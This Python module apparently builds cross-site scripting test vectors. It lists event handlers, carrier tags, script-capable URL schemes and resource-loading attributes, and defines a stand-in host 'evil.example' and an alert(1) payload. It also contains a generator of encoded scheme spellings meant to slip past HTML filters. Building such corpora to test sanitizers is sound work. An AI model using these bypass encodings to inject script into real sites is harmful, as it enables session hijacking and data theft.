"""What attacks are made of: handlers, elements, attributes that load, schemes and the ways to write them."""

from __future__ import annotations

from collections.abc import Iterator

REMOTE = "http://evil.example/x"
RUN = "alert(1)"

HANDLERS = (
    "onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy "
    "onbeforeinput onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncanplay onchange onclick "
    "oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragstart ondrop ondurationchange onend onended "
    "onerror onfinish onfocus onfocusin onformdata onfullscreenchange ongotpointercapture onhashchange oninput "
    "oninvalid onkeydown onload onloadeddata onloadstart onmessage onmousedown onmouseenter onmousemove "
    "onmouseover onmousewheel onoffline onpageshow onpaste onpause onplay onpointerdown onpointerrawupdate "
    "onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onsearch onseeked onselect "
    "onselectstart onshow onstart onstorage onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload "
    "onvolumechange onwaiting onwheel onxyzzy"
).split()
CARRIERS = (
    "a abbr article audio b blockquote body br button canvas center details div dl em embed fieldset figure font "
    "form h2 html iframe image img input isindex keygen li link marquee math meter nav object ol p picture pre "
    "section select small span strike summary svg table tbody td textarea time tr u ul video wbr x xss custom- "
    "element"
).split()
SCHEMES = (
    "javascript", "vbscript", "livescript", "mocha", "jscript", "data", "file", "blob", "filesystem", "jar", "about",
    "view-source", "feed:javascript", "intent", "chrome", "resource", "ms-its", "mhtml", "ws", "x-apple",
)  # fmt: skip
LOADING = (
    ("img", "src"), ("img", "srcset"), ("img", "lowsrc"), ("img", "dynsrc"), ("img", "longdesc"), ("img", "data-src"),
    ("iframe", "src"), ("iframe", "srcdoc"), ("embed", "src"), ("object", "data"), ("object", "codebase"),
    ("object", "classid"), ("applet", "code"), ("applet", "archive"), ("script", "src"), ("link", "href"),
    ("base", "href"), ("body", "background"), ("table", "background"), ("td", "background"), ("video", "src"),
    ("video", "poster"), ("audio", "src"), ("source", "src"), ("source", "srcset"), ("track", "src"),
    ("input", "src"), ("input", "formaction"), ("button", "formaction"), ("form", "action"), ("isindex", "action"),
    ("a", "href"), ("a", "ping"), ("area", "href"), ("area", "ping"), ("q", "cite"), ("blockquote", "cite"),
    ("del", "cite"), ("ins", "cite"), ("html", "manifest"), ("frame", "src"), ("frame", "longdesc"), ("layer", "src"),
    ("bgsound", "src"), ("portal", "src"), ("image", "src"), ("image", "href"), ("image", "xlink:href"),
    ("xml", "src"), ("head", "profile"), ("menuitem", "icon"), ("command", "icon"), ("div", "src"), ("p", "href"),
)  # fmt: skip
VOID = frozenset("area base br embed frame hr image img input isindex keygen link source track wbr bgsound".split())


def element(tag: str, attributes: str, inside: str = "x") -> str:
    """An element with attributes; closed unless it has no end tag."""
    return f"<{tag} {attributes}>" if tag in VOID else f"<{tag} {attributes}>{inside}</{tag}>"


def spellings(scheme: str) -> Iterator[str]:
    """The ways to write a scheme that some parser reads as the plain one."""
    first, rest = scheme[0], scheme[1:]
    yield f"{scheme}:"
    yield f"{scheme.upper()}:"
    yield f" \t{scheme}:"
    yield f"\x01{scheme}:"
    yield f"{first}&Tab;{rest}&colon;"
    yield f"{first}&NewLine;{rest}:"
    yield f"{first}\n{rest}:"
    yield "".join(f"&#{ord(letter)};" for letter in scheme) + ":"
    yield "".join(f"&#x{ord(letter):x}" for letter in scheme) + "&#58;"
    yield "".join(f"&#{ord(letter):07}" for letter in scheme) + ":"
    yield f"%{ord(first):02x}{rest}:"
    yield f"{chr(ord(first) + 0xFEE0)}{rest}："
    yield f"\u200b{first}\u00ad{rest}:"
    yield f"{first}\\{rest}:"
    yield f"//{scheme}:"
